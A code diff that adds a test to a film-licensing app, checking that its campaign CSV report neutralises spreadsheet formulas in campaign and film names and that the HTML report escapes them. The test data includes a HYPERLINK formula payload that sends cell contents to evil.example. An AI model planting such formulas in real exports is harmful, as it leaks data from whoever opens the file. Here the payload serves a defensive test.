@@ -12,10 +12,12 @@ from datetime import timedelta
 import httpx
 from sqlalchemy import select
 
+from catalog.models import Film
 from kernel.db import Database
 from licensing.ledger import SaleLine, post_sales
 from licensing.models import Channel
 from orders.models import LineKind, Order, OrderLine
+from orders.promotion_models import Campaign
 from orders.promotions import create_campaign
 from tests.factory import staff_member, staff_world
 from tests.prices import usd
@@ -120,3 +122,25 @@ async def test_the_campaign_page_charts_counts_attach_rate_and_money_as_its_csv_
                       "royalty"]  # fmt: skip
     assert rows == [["2025-Q3", "0", "1", "2", "0", "1", "100.0 %", "USD", usd(5500), usd(300),
                      usd(5200), usd(220)]]  # fmt: skip
+
+
+async def test_formula_names_of_campaigns_and_films_are_text_in_the_by_campaign_csv(
+    client: httpx.AsyncClient, db: Database
+) -> None:
+    # a campaign or film name a spreadsheet would run (=, +, -, @) reaches it as text
+    campaign_id = await _attributed(db)
+    async with db.session() as s:
+        campaign = await s.get(Campaign, campaign_id)
+        campaign.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        film = await s.scalar(select(Film).where(Film.title == "Night Train"))
+        film.title = "@SUM(1+1)"
+    await staff_member(db)
+    await sign_in(client)
+    download = await client.get("/staff/reports/film-commerce-by-campaign.csv?period=2025-Q3")
+    rows = list(csv.reader(io.StringIO(download.text)))
+    ours = [r for r in rows[1:] if r[1].startswith("'=")]
+    assert ours and all(r[0] == "'@SUM(1+1)" for r in ours), rows
+    assert ours[0][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert not any(cell[:1] in "=+-@" for r in rows for cell in r[:2] if cell)
+    page = await client.get("/staff/reports?period=2025-Q3")
+    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1" in page.text
